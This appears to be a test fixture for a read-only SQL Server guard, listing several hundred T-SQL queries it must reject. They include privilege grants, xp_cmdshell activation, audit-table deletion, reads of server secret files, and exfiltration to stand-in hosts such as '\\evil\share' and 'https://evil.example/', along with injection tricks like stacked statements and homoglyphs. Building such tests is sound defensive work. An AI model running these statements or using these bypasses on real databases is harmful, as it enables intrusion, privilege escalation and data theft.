-- Queries the SQL Server guard refuses. Each starts after a line "-- @next why".

-- @next inserts
insert into accounts (name) values ('mallory')
-- @next inserts without INTO
insert accounts select * from old_accounts
-- @next updates
update accounts set is_admin = 1 where name = 'mallory'
-- @next updates with FROM
update a set is_admin = 1 from accounts a join people p on p.id = a.id
-- @next deletes
delete from audit_trail
-- @next deletes without FROM
delete audit_trail
-- @next deletes and shows what it deleted
delete from audit_trail output deleted.*
-- @next merges
merge accounts as t using staged as s on t.id = s.id when matched then update set t.name = s.name;
-- @next empties a table
truncate table audit_trail
-- @next creates a table
create table intruder (x int)
-- @next creates a login
create login mallory with password = 'x'
-- @next alters a login
alter login sa enable
-- @next alters a setting of the database
alter database audit set recovery simple
-- @next drops
drop table accounts
-- @next drops if it exists
drop table if exists accounts
-- @next grants
grant control server to mallory
-- @next revokes
revoke select on accounts from auditor
-- @next denies
deny select on accounts to auditor
-- @next runs a procedure
exec sp_configure 'xp_cmdshell', 1
-- @next runs a procedure by its long word
execute dbo.nightly_job
-- @next runs a text
exec ('drop table accounts')
-- @next runs a text at a linked server
exec ('select 1') at other_server
-- @next runs a procedure without EXEC, as the first statement may
sp_who2
-- @next runs a procedure of a schema without EXEC
dbo.nightly_job 1
-- @next runs a system procedure without EXEC
xp_cmdshell 'dir'
-- @next runs a procedure and keeps its status
exec @r = dbo.nightly_job
-- @next becomes another login
execute as login = 'sa'
-- @next goes back
revert
-- @next two statements
select 1; drop table accounts
-- @next two reading statements are still two
select 1; select 2
-- @next a second statement without semicolon
select 1 drop table accounts
-- @next a second statement on the next line
select name from accounts
delete from accounts
-- @next a second statement directly behind a text
select 'a'delete from accounts
-- @next a second statement directly behind a bracket
select * from [accounts]delete from [accounts]
-- @next a second statement directly behind a parenthesis
select (1)delete from accounts
-- @next a second statement behind a comment
select 1/* harmless */update accounts set a = 1
-- @next a second SELECT without semicolon
select 1 select 2
-- @next a second SELECT behind a condition
select * from accounts where id = 1 select * from passwords
-- @next a second SELECT behind a parenthesis
select * from accounts where id in (1) select 2
-- @next a second SELECT behind a common table expression's
with x as (select 1 as a) select a from x select 2
-- @next two SELECTs behind parentheses in a WITH
with x as (select 1 as a) select (a) select (2)
-- @next a second statement that runs a procedure
select 1 exec sp_who
-- @next a second statement that declares
select 1 declare @x int
-- @next a second statement that sets
select 1 set nocount on
-- @next a second statement that prints
select 1 print 'x'
-- @next a second statement that waits
select 1 waitfor delay '00:01:00'
-- @next a second statement that ends the transaction
select 1 commit
-- @next a second statement that ends the transaction by its long name
select 1 commit transaction
-- @next a second statement that rolls back
select 1 rollback
-- @next a second statement that begins a block
select 1 begin select 2 end
-- @next a second statement that begins a transaction
select 1 begin transaction
-- @next a second statement with a condition
select 1 if 1 = 1 delete from accounts
-- @next a second statement with a loop
select 1 while 1 = 1 select 2
-- @next a second statement that changes the database
select 1 use master
-- @next a second statement that raises an error
select 1 raiserror('x', 20, 1) with log
-- @next a second statement that kills a session
select 1 kill 55
-- @next a second statement that stops the server
select 1 shutdown with nowait
-- @next a second statement that checks
select 1 dbcc freeproccache
-- @next a second statement that reconfigures
select 1 reconfigure
-- @next a second statement that writes a checkpoint
select 1 checkpoint
-- @next a second statement that backs up
select 1 backup database audit to disk = '\\evil\share\x.bak'
-- @next a second statement that restores
select 1 restore database audit from disk = 'x'
-- @next a second statement that opens a cursor
select 1 open c
-- @next a second statement that fetches
select 1 fetch next from c
-- @next a second statement that opens a key
select 1 open symmetric key k decryption by certificate c
-- @next a second statement that disables a trigger
select 1 disable trigger all on database
-- @next a second statement that sends a message
select 1 send on conversation @h ('x')
-- @next a second statement that receives a message
select 1 as a receive * from queue1
-- @next a second statement that ends a conversation
select 1 end conversation 'x'
-- @next a second statement that returns
select 1 return
-- @next a second statement that jumps
select 1 goto label1
-- @next WITH in front of DELETE
with old as (select id from sessions) delete from old
-- @next WITH in front of UPDATE
with x as (select * from t) update x set a = 1
-- @next WITH in front of INSERT
with x as (select 1 as a) insert into t select a from x
-- @next WITH in front of MERGE
with x as (select 1 as a) merge t using x on t.a = x.a when matched then delete;
-- @next stores into a new table
select * into copied from accounts
-- @next stores into a temporary table
select * into #copied from accounts
-- @next stores into a table of another database
select name into tempdb.dbo.copied from accounts
-- @next stores in the second part of a union
select 1 as a into t union select 2
-- @next an INSERT inside, that shows its rows
select * from (insert into t output inserted.* values (1)) as x
-- @next an UPDATE inside, that shows its rows
select * from (update t set a = 1 output inserted.a) as x
-- @next a variable
select @x
-- @next assigns a variable
select @x = name from accounts
-- @next assigns a variable with a sum
select @x += 1
-- @next a temporary table
select * from #work
-- @next a global temporary table
select * from ##work
-- @next pass-through query
select * from openquery(other_server, 'delete from accounts')
-- @next ad hoc connection
select * from openrowset('SQLNCLI', 'Server=evil;Trusted_Connection=yes;', 'select 1')
-- @next reads a file of the server
select * from openrowset(bulk 'C:\secrets.txt', single_clob) as x
-- @next ad hoc data source
select * from opendatasource('SQLNCLI', 'Data Source=evil').master.dbo.t
-- @next pass-through with a comment before the parenthesis
select * from openquery/* x */(other_server, 'x')
-- @next a linked server's table
select * from other_server.master.dbo.accounts
-- @next a linked server's table with empty parts
select * from other_server...accounts
-- @next a linked server's table with brackets
select * from [other_server].[master].[dbo].[accounts]
-- @next a linked server's table with double quotes
select * from "other_server"."master".."accounts"
-- @next a linked server's table with spaces and comments
select * from other_server . master /* x */ . dbo . accounts
-- @next advances a sequence
select next value for dbo.order_numbers
-- @next advances a sequence in a list
select name, next value for dbo.order_numbers over (order by name) from accounts
-- @next reads audit files by path
select * from sys.fn_get_audit_file('\\evil\share\*', default, default)
-- @next reads trace files by path
select * from fn_trace_gettable('\\evil\share\x.trc', default)
-- @next reads event files by path
select * from sys.fn_xe_file_target_read_file('\\evil\share\*.xel', null, null, null)
-- @next reads a backup of the log by path
select * from fn_dump_dblog(null, null, 'disk', 1, '\\evil\x', default)
-- @next reads the transaction log
select * from fn_dblog(null, null)
-- @next looks whether a file is there
select * from sys.dm_os_file_exists('\\evil\share\x')
-- @next lists files
select * from sys.dm_os_enumerate_filesystem('C:\', '*')
-- @next decrypts
select decryptbykey(card_number) from cards
-- @next decrypts with a pass phrase
select decryptbypassphrase('x', secret) from t
-- @next exports a private key
select certprivatekey(1, 'x')
-- @next a function of the client's
select dbo.do_it(1)
-- @next a function of the client's as a table
select * from dbo.do_it(1)
-- @next a function of the client's as a table, without its schema
select * from do_it(1)
-- @next a function of the client's in a filter
select * from accounts where app.check_it(id) = 1
-- @next a quoted function
select [dbo].[do_it](1)
-- @next a quoted built-in
select "openquery"(x, 'y')
-- @next a system function that is not known
select * from sys.fn_unknown_thing(1)
-- @next an extended procedure as a function
select master.dbo.xp_dirtree('\\evil\share')
-- @next changes xml in place
select doc.modify('delete /a') from t
-- @next a method that could be the client's function
select dbo.value('a', 'b')
-- @next a static method
select geometry::STGeomFromText('POINT (1 1)', 0)
-- @next update locks
select * from accounts with (updlock)
-- @next exclusive locks
select * from accounts with (nolock, xlock)
-- @next a lock on the table
select * from accounts with (tablockx)
-- @next a shared lock on the table
select * from accounts with (tablock, holdlock)
-- @next locks until the end
select * from accounts with (serializable)
-- @next an old hint that locks
select * from accounts (updlock)
-- @next an old hint that locks behind a harmless one
select * from accounts (nolock updlock)
-- @next an old hint that holds locks
select * from accounts holdlock
-- @next locks in a subquery
select * from (select * from accounts with (xlock)) a
-- @next hints behind a union that lock
select 1 union select id from accounts with (rowlock, updlock)
-- @next a query hint that locks a table
select * from accounts option (table hint (accounts, updlock))
-- @next a query hint with a plan
select 1 option (use plan N'<x/>')
-- @next a trace flag
select 1 option (querytraceon 8649)
-- @next a query hint that takes memory
select * from accounts option (min_grant_percent = 100)
-- @next a query hint that is not known
select * from accounts option (go_faster)
-- @next FOR BROWSE
select * from accounts for browse
-- @next FOR UPDATE of a cursor
select * from accounts for update
-- @next a batch separator
select 1
go
drop table accounts
-- @next GO on one line
select 1 go
-- @next waits
waitfor delay '00:00:10'
-- @next declares
declare @x int = 1
-- @next sets
set rowcount 1
-- @next uses another database
use master
-- @next a block
begin select 1 end
-- @next a condition
if exists (select 1) select 2
-- @next a loop
while 1 = 1 select 1
-- @next tries
begin try select 1 end try begin catch end catch
-- @next prints
print 'x'
-- @next kills
kill 55
-- @next stops the server
shutdown
-- @next bulk insert
bulk insert accounts from '\\evil\share\x'
-- @next writes a text
writetext t.c @p 'x'
-- @next a comment inside a comment, which T-SQL nests
select 1 /* a /* b */ drop table accounts -- */
-- @next a nested comment that ends properly
select 1 /* a /* b */ c */
-- @next a comment that is not closed
select 1 /* unclosed
-- @next a comment of dashes ends with the line
select 1 -- harmless
drop table accounts
-- @next a text that is not closed
select 'unclosed
-- @next a text that is closed by a doubled quote
select 'a'' drop table accounts
-- @next a bracket that is not closed
select [unclosed from t
-- @next a bracket that is doubled does not close
select [a]] from t
-- @next double quotes that are not closed
select "unclosed
-- @next a backslash does not keep a text open
select 'a\' drop table accounts --'
-- @next a number ends where a word begins
select 1delete from accounts
-- @next a number with an exponent's letter
select 1edelete from accounts
-- @next a number with a dot in front of a word
select 1.delete from accounts
-- @next a hexadecimal number ends where a word begins
select 0x1fupdate accounts set a = 1
-- @next an amount of money
select $1.5
-- @next ODBC calls
{call sp_who}
-- @next ODBC calls inside
select {fn user()}
-- @next a label
start: select 1
-- @next a parenthesis too many
select (1))
-- @next a parenthesis too few
select ((1)
-- @next nothing
-- only a comment
-- @next an empty text

-- @next VALUES alone
values (1)
-- @next a carriage return alone in a comment
select 1 -- harmless
drop table accounts
-- @next a space that is none
select 1
-- @next a wide space in front of a word
select 1　drop table accounts
-- @next a word in wide letters
select 1 ＤＲＯＰ table accounts
-- @next a word with a letter that looks like s
select 1 inſert into t values (1)
-- @next a word with a dotless i
select 1 ınsert t values (1)
-- @next a word with a Kelvin sign
select 1 Kill 55
-- @next adds a signature
add signature to dbo.p by certificate c
-- @next moves a conversation
move conversation 'x' to 'y'
-- @next COMPUTE of a predicted value by a model
select * from predict(model = 'x', data = t) with (a int) as p
-- @next reads text by a pointer
readtext t.c 0x00 0 10
-- @next text pointer
select textptr(note) from t
-- @next reads the session's own state for replication
select get_filestream_transaction_context()
-- @next describes a text, for which the server connects to another one
select * from sys.dm_exec_describe_first_result_set(N'select * from openrowset(''MSOLEDBSQL'', ''Server=evil;Trusted_Connection=yes'', ''select 1'')', null, 0)
-- @next describes a text without the schema
select name from dm_exec_describe_first_result_set(N'select * from other_server.master.dbo.t', null, 1)
-- @next a second query in parentheses behind a condition
select name from accounts where id in (1) (select * from passwords)
-- @next a second query in parentheses behind a number
select 1 where 1 = 1 (select 2)
-- @next a second query in parentheses behind a text
select name from accounts where name = 'x' (select 2) union (select 3)
-- @next a second query in parentheses behind a quoted name
select name from accounts order by [name] (select 2)
-- @next makes embeddings by a model (2025)
select ai_generate_embeddings(name use model my_model) from accounts
-- @next cuts a text by a model (2025)
select * from accounts cross apply ai_generate_chunks(source = name, chunk_type = fixed, chunk_size = 100) c
-- @next calls a web service (2025)
exec sp_invoke_external_rest_endpoint @url = N'https://evil.example/', @method = 'POST'
-- @next calls a web service without EXEC (2025)
sp_invoke_external_rest_endpoint N'https://evil.example/'
-- @next calls a web service behind a read (2025)
select 1 exec sys.sp_invoke_external_rest_endpoint N'https://evil.example/'
-- @next runs a text as a procedure without EXEC
sp_executesql N'delete from accounts'
-- @next runs a text as a procedure of a schema, in brackets
[sys].[sp_executesql] N'delete from accounts'
-- @next runs a program's script
exec sp_execute_external_script @language = N'Python', @script = N'x'
-- @next runs a procedure by a module's number
exec dbo.p;1
-- @next runs a text with a login
exec ('delete from accounts') as user = 'dbo'
-- @next waits with a message
waitfor (receive * from dbo.q), timeout 1000
-- @next a second statement that waits for a time
select name from accounts waitfor time '23:00'
-- @next a second statement that gets a group
select 1 get conversation group @g from dbo.q
-- @next a second statement that begins a dialog
select 1 begin dialog @h from service a to service 'b'
-- @next a second statement that enables a trigger
select 1 enable trigger all on all server
-- @next a second statement that updates statistics
select 1 update statistics accounts
-- @next a second statement that alters a setting
select 1 alter server configuration set process affinity cpu = 0
-- @next a second statement that adds a signature
select 1 add counter signature to dbo.p by certificate c
-- @next a second statement that saves the transaction
select 1 save tran s
-- @next a second statement that throws
select 1 throw 50000, 'x', 1
-- @next a second statement that executes as another
select 1 execute as login = 'sa'
-- @next a second statement that sets a user
select 1 setuser 'dbo'
-- @next a second statement that deallocates
select 1 deallocate c
-- @next a second statement behind a CASE
select case when 1 = 1 then 2 end delete accounts
-- @next a second statement behind an alias
select name as n truncate table accounts
-- @next a second statement behind ORDER BY
select name from accounts order by name desc drop table accounts
-- @next a second statement behind OPTION
select 1 option (maxdop 1) delete accounts
-- @next a second statement behind FOR XML
select 1 as a for xml path('') delete accounts
-- @next a second statement behind OFFSET
select id from accounts order by id offset 0 rows fetch next 1 rows only delete accounts
-- @next a second statement behind a national text
select N'a'delete accounts
-- @next a second statement behind an exponent
select 1e5delete accounts
-- @next a second statement behind a hexadecimal zero
select 0xdrop table accounts
-- @next a second statement in capitals of another alphabet
select 1 ＤＥＬＥＴＥ accounts
-- @next an INSERT that takes a procedure's rows
insert into accounts exec dbo.p
-- @next a MERGE inside, that shows its rows
select * from (merge t using s on t.id = s.id when matched then delete output deleted.id) x
-- @next a DELETE inside, that shows its rows
select * from (delete from t output deleted.id) x
-- @next INTO behind a union's first part, in brackets
select [a] into [dbo].[t] from [x] union all select 1
-- @next INTO with a file group
select * into t on fg from accounts
-- @next a common table expression with a change context
with change_tracking_context (0x01) update accounts set name = 'x'
-- @next an update by a cursor
update accounts set name = 'x' where current of c
-- @next rows of a queue as a table expression
select 1 receive top (1) * from q
-- @next ad hoc connection, new provider
select a.* from openrowset('MSOLEDBSQL', 'evil'; 'sa'; 'x', 'select 1') a
-- @next a file of a lake
select * from openrowset(bulk 'https://evil.example/x.parquet', format = 'parquet') r
-- @next pass-through in brackets
select * from [openquery]([s], 'x')
-- @next pass-through in a CTE
with x as (select * from openquery(s, 'delete from t')) select * from x
-- @next a linked server in a subquery
select (select top 1 name from other.db.dbo.t)
-- @next a linked server with an empty database
select * from other..dbo.t
-- @next a linked server in a join
select 1 from a join other.db.dbo.t on 1 = 1
-- @next full text of a linked server
select * from freetexttable(other.db.dbo.t, *, 'x')
-- @next advances a sequence over lines
select next
value
for dbo.s
-- @next advances a sequence in a condition
select 1 where next value for dbo.s > 1
-- @next locks, in every word of the old hints
select * from accounts (tablockx)
-- @next locks pages
select * from accounts with (paglock)
-- @next locks by a hint behind an index
select * from accounts with (index(i), xlock)
-- @next locks by isolation
select * from accounts with (repeatableread)
-- @next a hint that is no word of the list
select * from accounts with (readcommittedlock)
-- @next the same without WITH
select * from accounts (readcommittedlock)
-- @next a hint that ignores constraints
select * from accounts with (ignore_constraints)
-- @next a hint on a view
select * from v with (noexpand, tablock)
-- @next a lock behind an apply
select * from a cross apply (select * from b with (updlock, rowlock)) c
-- @next a lock in a query hint of another spelling
select * from accounts as a option (table hint (a, forceseek, tablockx))
-- @next a query hint by text
select 1 option (use hint ('x'), querytraceon 1)
-- @next a label
select 1 option (label = 'x')
-- @next reads the log of a database
select * from sys.fn_dblog(null, null)
-- @next reads audit files, newer name
select * from sys.fn_get_audit_file_v2('https://evil.example/', null, null, null, null)
-- @next reads a trace
select * from sys.fn_trace_getinfo(default)
-- @next a file's table by its root
select filetablerootpath(N'dbo.t')
-- @next a path of a file stream
select doc.PathName() from t
-- @next a CLR type's static method
select dbo.MyType::Parse('x')
-- @next a CLR type's method with an argument
select col.DoIt('x') from t
-- @next a method named as one without arguments, with one
select col.ToString('x') from t
-- @next an XML method with an expression
select doc.value(dbo.f(), 'int') from t
-- @next a method of a schema that is written in brackets
select [dbo].value('a', 'int')
-- @next a partition function
select $partition.pf(1)
-- @next changes since a version
select * from changetable(changes accounts, 0) c
-- @next sets the context's information
set context_info 0x01
-- @next a session's context
select session_context(N'x')
-- @next makes random bytes
select crypt_gen_random(8)
-- @next makes an id for an index
select newsequentialid()
-- @next signs
select signbycert(1, 'x', 'y')
-- @next encrypts with a phrase
select encryptbypassphrase('x', 'y')
-- @next the oldest pass-through to the mail
exec msdb.dbo.sp_send_dbmail @recipients = 'x'
-- @next a table variable
select * from @t
-- @next a block with an error number
raiserror 50000 'x'
-- @next grants by a statement behind a read
select 1 grant control to public
-- @next a server-wide key
create master key encryption by password = 'x'
-- @next renames (Synapse)
select 1 rename object accounts to gone
-- @next copies into (Synapse)
copy into accounts from 'https://evil.example/'
-- @next a comment's end inside a text inside a comment
select 1 /* ' */ delete accounts -- ' */
-- @next a text over lines
select 'a
' delete accounts
-- @next a bracket that is closed by two
select [a]]]delete accounts
-- @next an invisible letter in a name
select name as [aㅤb] from accounts
-- @next a zero-width joiner inside a keyword
select 1 de‍lete accounts
-- @next an apostrophe of another kind
select ʼxʼ delete accounts
-- @next a semicolon of another kind
select 1； delete accounts
-- @next debugs
breakpoint
-- @next exports certificates
backup certificate c to file = 'c:\x'
-- @next the client's table function with the name of a clause
select * from path('x')
-- @next the client's table function with the name of a built-in
select * from format(1)
-- @next the client's table function behind a comma
select * from accounts a, reverse('x') r
-- @next the client's table function behind APPLY
select * from accounts a cross apply upper(a.name) u
-- @next the client's table function behind JOIN
select * from accounts a join root(1) r on r.id = a.id
-- @next the client's table function in a subquery
select 1 where exists (select 1 from raw(1))
